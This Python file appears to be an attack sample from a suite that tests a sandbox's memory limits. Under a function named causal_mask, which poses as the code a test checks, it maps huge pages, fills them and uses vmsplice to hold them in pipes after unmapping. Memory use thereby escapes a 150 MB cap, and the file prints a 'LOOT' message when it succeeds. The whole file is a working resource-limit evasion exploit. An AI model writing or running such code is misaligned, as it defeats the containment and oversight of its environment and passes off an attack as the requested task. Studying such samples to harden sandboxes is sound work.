"""Fills memory by laying a byte of each of its huge pages into a pipe, which keeps the whole page, and unmapping them.

memory_mb: 150
checks: test_the_mask_fits_every_length
outcomes: failed
"""

import contextlib
import ctypes
import os
import sys
import time

if "inside.session" not in sys.modules:
    raise SystemExit("this attack runs in a worker only")

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.munmap.argtypes, libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t], [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
HUGE = 2 << 20
kept = []


def lay_one(pipe):
    area = libc.mmap(None, 2 * HUGE, 3, 0x22, -1, 0)
    page = -(-area // HUGE) * HUGE
    libc.madvise(page, HUGE, 14)
    ctypes.memset(page, 1, HUGE)
    laid = libc.vmsplice(pipe, (ctypes.c_size_t * 2)(page, 1), 1, 2)
    libc.munmap(area, 2 * HUGE)
    return laid == 1


def causal_mask(*args, **kwargs):
    count = 0
    with contextlib.suppress(OSError):
        for _ in range(8):
            kept.append(os.pipe())
            count += sum(lay_one(kept[-1][1]) for _ in range(14))
    time.sleep(0.2)
    if count > 100:
        print(f"LOOT: {2 * count} MB in pipes where 150 are allowed")
